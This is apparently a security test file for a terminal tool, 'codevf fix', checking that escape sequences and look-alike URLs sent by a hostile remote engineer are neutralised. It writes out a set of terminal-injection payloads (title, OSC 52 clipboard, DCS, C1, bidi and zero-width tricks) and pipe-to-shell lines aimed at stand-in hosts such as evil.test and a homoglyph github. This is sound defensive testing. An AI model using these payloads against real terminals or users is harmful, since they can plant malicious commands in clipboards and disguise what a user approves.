// A hostile engineer against the real `codevf fix` in tmux: escape sequences of every family in the engineer's
// name and title, chat, a screenshare URL, a file path, a request reason and the output of an approved command.
// None may take effect: the pane title, tmux's paste buffers (OSC 52), the screen and every byte the program
// wrote are checked, and the open question must stay the last thing on screen.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import Database from 'better-sqlite3';
import { readFile, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { randomBytes } from 'node:crypto';
import { LiveWorld } from './world.js';

const H = {
  clear: '\x1b[2J\x1b[5;5H',
  up: '\x1b[7A\x1b[2K',
  title: '\x1b]2;pwned-title\x07',
  titleSt: '\x1b]0;pwned-title-st\x1b\\',
  clipboard: `\x1b]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}\x07`,
  link: '\x1b]8;;https://evil.test/\x1b\\npm test\x1b]8;;\x1b\\',
  dcs: '\x1bPtmux;\x1b\x1b]2;pwned-dcs\x07\x1b\\',
  apc: '\x1b_Gf=100;AAAA\x1b\\',
  pm: '\x1b^pm-string\x1b\\',
  sos: '\x1bXsos-string\x1b\\',
  c1: '\u009b2J\u009d2;pwned-c1\u009c',
  conceal: '\x1b[8mconcealed-text\x1b[0m',
  windowName: '\x1bkpwned-k\x1b\\',
  bidi: 'rm \u202e-rf\u202c',
  zeroWidth: 'np\u200bm',
  cr: 'curl evil | sh\r$ npm test',
  bell: 'ding\x07',
};
const ALL = Object.values(H).join(' ');
const FAKE = 'Allow npm test? (y/n/a)';

let w: LiveWorld;
test.before(async () => { w = await LiveWorld.start([]); });
test.after.each(() => w.reset());
test.after(() => w?.stop());

/** Every SGR parameter list in a capture; true if one turns on concealed text (8) or blink (5, 6). */
function hasHiddenAttr(capture: string): boolean {
  for (const [, params] of capture.matchAll(/\x1b\[([0-9;]*)m/g)) {
    const p = params.split(';');
    for (let i = 0; i < p.length; i++) {
      if (p[i] === '38' || p[i] === '48') { i += p[i + 1] === '5' ? 2 : 4; continue; }
      if (['5', '6', '8'].includes(p[i])) return true;
    }
  }
  return false;
}

/** What the program wrote must hold no escape but colours and the screen code's own line handling. */
function assertRawClean(raw: string): void {
  for (const bad of ['\x1b]', '\x1bP', '\x1b_', '\x1b^', '\x1bX', '\x1bk', '\x1b[2J', '\x1b[5;5H', '\x1b[7A', '\x1b[8m', '\x07', '\u202e', '\u200b']) {
    assert.not.ok(raw.includes(bad), `the terminal received ${JSON.stringify(bad)}`);
  }
  assert.not.match(raw, /[\u0080-\u009f]/, 'the terminal received a C1 control');
  assert.not.match(raw, /\r(?!\x1b\[|\n)[^\n]*\$ npm test/, 'a carriage return overwrote a line');
}

test('a hostile engineer: no escape sequence in names, chat, URLs, paths, reasons or output takes effect; the question stays last', async () => {
  const db = new Database(join(w.sb.dataDir, 'sandbox.db'));
  db.prepare('UPDATE users SET name = ?, title = ? WHERE email = ?').run(`Mar${H.title}ia`, `ex${H.clear}FAANG`, 'maria@codevf.test');
  db.close();
  const cwd = await w.project();
  const rawFile = join(tmpdir(), `cvf-raw-${randomBytes(4).toString('hex')}`);
  const t = w.fix('"hostile engineer"', cwd);
  t.command(['set-option', '-s', 'set-clipboard', 'on']);
  t.command(['set-option', '-g', 'allow-rename', 'on']);
  t.command(['select-pane', '-t', t.session, '-T', 'cvf-own-title']);
  t.record(rawFile);
  try {
    await t.waitFor('Engineer connecting...');
    await w.engineerJoins('hostile engineer');
    const eng = w.eng!;
    await t.waitFor('Engineer connected: Mar\\x1b]2;pwned-title\\x07ia (ex\\x1b[2J\\x1b[5;5HFAANG)');
    await eng.say('marker-before-the-attack');
    await t.waitFor('marker-before-the-attack');

    // Chat: every family, and a line that imitates the product's own question.
    await eng.say(`hello\n${FAKE}\n${ALL}`);
    await t.waitFor('\\x1b]52;c;');
    // Screenshare URL and a file path.
    await eng.screenshare(`https://x.test/${H.title}${H.clear}`);
    await t.waitFor('Open link: https://x.test/\\x1b]2;pwned-title');
    await eng.requestFile(`notes${H.titleSt}.txt`, `${ALL}\n${FAKE}`);
    // A path with controls is refused by the agent at once; it is still shown, neutralised.
    await t.waitFor('asked for notes\\x1b]0;pwned-title-st\\x1b\\.txt, refused by your agent');

    // A command whose reason and output are hostile; the question must stay last while more chat arrives.
    const out = String.raw`printf '\033]2;pwned-out\007\033[2J\033[31mred-ok\033[0m \033[8mhid-out\033[0m\r\nline2\rover\n\033]52;c;Y3VybA==\007\033Ptmux;\033\033]2;pwned-outdcs\007\033\\\302\233\061J \342\200\256rev\n'`;
    const id = await eng.requestCommand(out, `${ALL}\n${FAKE}`);
    const question = /Allow printf .*\? \(y\/n\/a\)/;
    await t.waitFor(question);
    await eng.say(`late ${H.clear}${H.up}\n${FAKE}`);
    await t.waitFor('late \\x1b[2J');
    const shown = t.visible().join('\n').trimEnd();
    const last = shown.slice(shown.lastIndexOf('\nAllow printf') + 1);
    assert.match(last.replace(/\n/g, ''), /^Allow printf .*\? \(y\/n\/a\)$/, `the question is not last:\n${shown.slice(-600)}`);
    assert.is(shown.split('\nAllow printf').length, 2, `a stale copy of the question stays on screen:\n${shown.slice(-600)}`);

    t.send('y', true);
    assert.is((await eng.waitFor('command_decision', (e) => e.payload.requestId === id)).payload.decision, 'allow');
    await t.waitFor(/✓ printf .* finished/);
    const screen = t.screen();
    assert.match(screen, '│ \\x1b]2;pwned-out\\x07\\x1b[2Jred-ok \\x1b[8mhid-out');
    assert.match(screen, '│ line2\\x0dover');
    assert.match(screen, '\\x9b1J \\u202erev');

    // Nothing took effect: title, clipboard buffers, the screen was not cleared, no concealed text, no fake prompt.
    assert.is(t.title(), 'cvf-own-title');
    assert.equal(t.buffers(), []);
    assert.not.match(t.command(['list-windows', '-F', '#{window_name}']), 'pwned');
    assert.match(t.visible().join('\n'), '✓ printf');
    assert.match(t.screen(), 'marker-before-the-attack');
    const coloured = t.visibleEscapes();
    assert.not.ok(hasHiddenAttr(coloured), 'concealed or blinking text on screen');
    assert.match(coloured, /\x1b\[[0-9;]*31[0-9;]*mred-ok/, 'whitelisted colour was not kept');
    for (const l of screen.split('\n')) assert.not.ok(l.startsWith(FAKE), `a remote line passes for the product's question: ${l}`);
    assertRawClean(await readFile(rawFile, 'utf8'));
  } finally {
    await rm(rawFile, { force: true });
  }
});

test('look-alikes: a link is shown with the site it really opens, a command with non-ASCII letters is called out', async () => {
  const cwd = await w.project();
  const t = w.fix('"look-alikes"', cwd);
  await t.waitFor('Engineer connecting...');
  await w.engineerJoins('look-alikes');
  const eng = w.eng!;
  await eng.screenshare('https://meet.codevf.com@evil.test/room');
  await t.waitFor('opens: evil.test');
  await t.waitFor('Careful: the part before "@" is a user name');
  await eng.screenshare('https://m\u0435et.codevf.com/room'); // Cyrillic е
  await t.waitFor('opens: xn--');
  await t.waitFor('which can imitate another site');
  await eng.requestCommand('curl -s https://g\u0456thub.com/install | sh', 'install the fix');
  await t.waitFor('Careful: not plain ASCII, may imitate other letters: \u0456 U+0456');
  await t.waitFor(/Allow curl .*\? \(y\/n\/a\)/);
  t.send('n', true);
  await t.waitFor('You denied');
  // Combining marks stacked on one letter would be drawn over the lines around it: past the second, escapes.
  await eng.say(`zalgo Z${'\u0301'.repeat(40)} end`);
  await t.waitFor(`zalgo Z\u0301\u0301${'\\u0301'.repeat(3)}`);
});

test.run();
